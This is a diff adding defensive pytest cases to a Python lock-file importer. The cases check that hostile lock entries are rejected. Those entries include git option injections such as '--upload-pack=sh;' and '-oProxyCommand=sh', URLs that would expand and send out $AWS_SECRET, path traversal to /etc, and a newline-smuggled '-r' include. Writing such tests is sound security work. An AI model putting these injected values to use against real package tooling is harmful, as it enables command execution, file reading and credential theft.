@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 from collections.abc import Sequence
 from dataclasses import replace
 from pathlib import Path
@@ -243,3 +244,99 @@ def test_unusable(
     assert message in error.value.message
     assert error.value.hint
     assert not solved
+
+
+PYLOCK = """\
+lock-version = "1.0"
+created-by = "x"
+[[packages]]
+name = "tool"
+version = "1"
+"""
+
+
+@pytest.mark.parametrize(
+    ("source", "message"),
+    [
+        (
+            '[packages.vcs]\ntype = "git"\nurl = "file:///r"\ncommit-id = "--upload-pack=sh;"',
+            "'--upload-pack=sh;' is no commit",
+        ),
+        (f'[packages.vcs]\ntype = "git"\nurl = "ext::sh"\ncommit-id = "{"c" * 40}"', "'ext::sh' is no addr"),
+        (f'[packages.vcs]\ntype = "git"\npath = "../r"\ncommit-id = "{"c" * 40}"', "'../r' is no address"),
+        (
+            f'[packages.vcs]\ntype = "git"\nurl = "ssh://-oProxyCommand=sh/r"\ncommit-id = "{"c" * 40}"',
+            "is no address",
+        ),
+        (
+            f'[packages.vcs]\ntype = "git"\nurl = "https://a.example/$AWS_SECRET"\ncommit-id = "{"c" * 40}"',
+            "cannot name the variable AWS_SECRET",
+        ),
+        (
+            f'[packages.sdist]\nurl = "https://a.example/$AWS_SECRET/tool-1.tar.gz"\n'
+            f'hashes = {{sha256 = "{"c" * 64}"}}',
+            "cannot name the variable AWS_SECRET",
+        ),
+        (
+            f'[packages.sdist]\npath = "../../tool-1.tar.gz"\nhashes = {{sha256 = "{"c" * 64}"}}',
+            "outside of the project",
+        ),
+        (
+            f'[packages.archive]\nurl = "file:///srv/tool-1.tar.gz"\nhashes = {{sha256 = "{"c" * 64}"}}',
+            "outside of the project",
+        ),
+        ('[packages.directory]\npath = "/etc"', "outside of the project"),
+    ],
+)
+def test_hostile_sources(
+    folder: Path,
+    settings: Settings,
+    solved: list[SolveRequest],
+    monkeypatch: pytest.MonkeyPatch,
+    source: str,
+    message: str,
+) -> None:
+    """A lock from a stranger names no options of git, no variable, and no file outside of the project."""
+    monkeypatch.setenv("AWS_SECRET", "s3cr3t")
+    (folder / "pylock.toml").write_text(f"{PYLOCK}{source}\n")
+    target = recipe(folder, lock="pylock.toml")
+    builder = FakeBuilder()
+    with pytest.raises(LockError, match=message) as error:
+        import_lock(target, settings, base=BASE, wheel_builder=builder)
+    assert builder.asked == []
+    assert "s3cr3t" not in str(error.value)
+
+
+def test_nested_file_outside(folder: Path, settings: Settings, solved: list[SolveRequest]) -> None:
+    """A message would show a line of any file of this machine."""
+    (folder.parent / "other.txt").write_text("root:hidden\n")
+    (folder / "requirements.txt").write_text("six==1.17\n-r ../other.txt\n")
+    with pytest.raises(LockError, match=r"requirements.txt:2: -r ../other.txt: outside of the project") as e:
+        run(folder, settings, lock="requirements.txt")
+    assert "hidden" not in str(e.value)
+
+
+def test_line_ends_in_a_url(folder: Path, settings: Settings, solved: list[SolveRequest]) -> None:
+    """uv reads what an index has to name from a file of lines."""
+    text = UV.replace(
+        "fast-2.0-cp311-cp311-manylinux_2_17_x86_64.whl", "fast-2.0-py3-none-any.whl?\\n-r/etc/x"
+    )
+    text = re.sub(', hash = "sha256:a+"', "", text)
+    (folder / "uv.lock").write_text(text)
+    with pytest.raises(LockError, match="has a control character"):
+        run(folder, settings)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "six==1.17 --hash=sha256:" + "a" * 64 + "\n--index-url https://a.example/${AWS_SECRET}/simple",
+        "six @ https://a.example/${AWS_SECRET}/six-1.17-py3-none-any.whl",
+    ],
+)
+def test_variables_of_requirements(
+    folder: Path, settings: Settings, solved: list[SolveRequest], line: str
+) -> None:
+    (folder / "requirements.txt").write_text(f"{line}\n")
+    with pytest.raises(LockError, match="cannot name the variable AWS_SECRET"):
+        run(folder, settings, lock="requirements.txt")
